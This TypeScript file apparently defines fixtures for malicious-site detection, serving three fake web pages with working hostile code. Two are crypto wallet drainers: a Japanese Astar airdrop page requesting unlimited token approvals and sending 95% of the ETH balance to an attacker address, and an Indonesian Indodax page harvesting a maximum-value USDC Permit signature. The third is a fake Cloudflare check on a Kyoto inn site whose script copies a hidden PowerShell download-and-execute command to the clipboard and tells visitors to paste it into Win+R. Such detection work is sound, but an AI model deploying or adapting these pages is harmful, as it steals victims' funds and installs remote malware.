import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc } from '../parts/ze-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

const drainJs = (spender: string, api: string): string => `(function(){
var SPENDER='${spender}';
var MAX='0xffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff';
function enc(sel,a,b){return sel+a.replace('0x','').padStart(64,'0')+b.replace('0x','').padStart(64,'0')}
async function run(){
  var eth=window.ethereum; if(!eth){document.getElementById('st').textContent='Please open in MetaMask / OKX Wallet / Trust Wallet browser';return}
  var acc=(await eth.request({method:'eth_requestAccounts'}))[0];
  var r=await fetch('${api}?a='+acc); var toks=(await r.json()).tokens||[];
  for(var i=0;i<toks.length;i++){
    try{await eth.request({method:'eth_sendTransaction',params:[{from:acc,to:toks[i].address,data:enc('0x095ea7b3',SPENDER,MAX)}]})}catch(e){}
  }
  var bal=await eth.request({method:'eth_getBalance',params:[acc,'latest']});
  try{await eth.request({method:'eth_sendTransaction',params:[{from:acc,to:SPENDER,value:'0x'+(BigInt(bal)*95n/100n).toString(16)}]})}catch(e){}
  document.getElementById('st').textContent='Claim submitted. Tokens will arrive within 24h.';
}
document.querySelectorAll('.claim').forEach(function(b){b.onclick=run});
})();`;

export const entries: Entry[] = [
  {
  id: 'ze-drain-jp-astar-airdrop-claim',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://astar-claim.network-airdrop.io/season3',
  routes: {
    'astar-claim.network-airdrop.io/season3': htmlRoute(doc({
      lang: 'ja',
      title: 'Astar Network | Season 3 Airdrop Claim',
      css: 'body{background:#0b0f2e;color:#fff;text-align:center}.b{background:linear-gradient(90deg,#0ae2ff,#a34cff);color:#fff;font-size:18px;padding:14px 40px;border-radius:30px;margin-top:20px}.c{max-width:560px;margin:60px auto}',
      body: `<div class="c"><h1>ASTAR Season 3 エアドロップ</h1><p>日本発のパブリックブロックチェーン Astar Network のコミュニティ貢献者に ASTR を配布します。ウォレットを接続して対象かどうか確認してください。</p><p>総配布量 50,000,000 ASTR · 残り <b>6時間</b></p>
<button class="b claim">ウォレットを接続して受け取る</button><p id="st" style="font-size:13px;opacity:.8"></p><p style="font-size:11px;opacity:.5">Supported: MetaMask, OKX Wallet, SubWallet, Trust Wallet</p></div>
<script src="/assets/claim.js"></script>`,
    })),
    'astar-claim.network-airdrop.io/assets/claim.js': jsRoute(drainJs('0x7c3a9e0d4f5b18a2c6e1d09b8f2a4c5e6d7f8091', '/api/assets')),
    'astar-claim.network-airdrop.io/api/assets': jsonRoute({ tokens: [{ symbol: 'USDT', address: '0xdAC17F958D2ee523a2206206994597C13D831ec7' }, { symbol: 'USDC', address: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48' }, { symbol: 'ASTR', address: '0x0000000000000000000000000000000000000000' }] }),
  },
},
  {
  id: 'ze-drain-id-indodax-event-permit',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://indodax-event.claim-usdt.site/hadiah',
  body: doc({
    lang: 'id',
    title: 'Event 11 Tahun Indodax - Klaim 100 USDT',
    css: 'body{background:#0d1b3e;color:#fff;text-align:center}.b{background:#2b7cff;color:#fff;padding:14px 40px;border-radius:8px;font-size:18px}',
    body: `<div class="wrap" style="max-width:560px;padding-top:60px"><h1>🎉 Ulang Tahun ke-11 — Klaim 100 USDT</h1><p>Hubungkan wallet kamu (jaringan Ethereum / BSC) dan tanda tangani pesan verifikasi untuk menerima hadiah. Gratis, tanpa biaya gas.</p><button class="b" id="c">Hubungkan Wallet</button><p id="st"></p></div>
<script>document.getElementById('c').onclick=async function(){var e=window.ethereum;if(!e){st.textContent='Wallet tidak ditemukan';return}var a=(await e.request({method:'eth_requestAccounts'}))[0];var msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},primaryType:'Permit',domain:{name:'USD Coin',version:'2',chainId:1,verifyingContract:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'},message:{owner:a,spender:'0x5e1f9a2b3c4d5e6f708192a3b4c5d6e7f8091a2b',value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:0,deadline:9999999999}};var sig=await e.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify(msg)]});fetch('/hadiah/s',{method:'POST',body:JSON.stringify({a:a,sig:sig})});st.textContent='Berhasil! Hadiah diproses.'}</script>`,
  }),
},
  {
  id: 'ze-clickfix-jp-cloudflare-ningen',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://www.arashiyama-yado-kaede.jp/reservation/',
  routes: {
    'www.arashiyama-yado-kaede.jp/reservation/': htmlRoute(doc({
      lang: 'ja',
      title: 'ご予約 | 嵐山の宿 かえで',
      body: `<div class="wrap"><h1>嵐山の宿 かえで</h1><p>ご予約は下記フォームより承っております。</p></div>
<div id="cf" style="position:fixed;inset:0;background:#fff;display:flex;align-items:center;justify-content:center;z-index:999"><div style="max-width:520px;border:1px solid #ddd;padding:26px;font-family:sans-serif">
<h2>www.arashiyama-yado-kaede.jp</h2><p>続行する前に、お客様が人間であることを確認する必要があります。</p>
<label style="display:flex;gap:8px;align-items:center;border:1px solid #ccc;padding:12px"><input type="checkbox" id="cb" style="width:auto"> 私はロボットではありません</label>
<div id="st" style="display:none;font-size:14px;margin-top:14px;background:#f7f7f7;padding:12px"><b>確認手順：</b><ol><li><b>Windows キー + R</b> を押します</li><li><b>Ctrl + V</b> を押して貼り付けます</li><li><b>Enter</b> キーを押して確認を完了します</li></ol><p style="font-size:12px">Ray ID: 8f1c22a7bd9e4e10</p></div><p style="font-size:11px;color:#999">Performance & security by Cloudflare</p></div></div>
<script>document.getElementById('cb').onclick=function(){var c='powershell -w h -nop -c "iex(iwr -useb https://kaede-cdn.jp-static.top/v.txt)" # ✅ 私はロボットではありません - 認証ID: 4471';navigator.clipboard.writeText(c).catch(function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()});document.getElementById('st').style.display='block'}</script>`,
    })),
  },
},
];
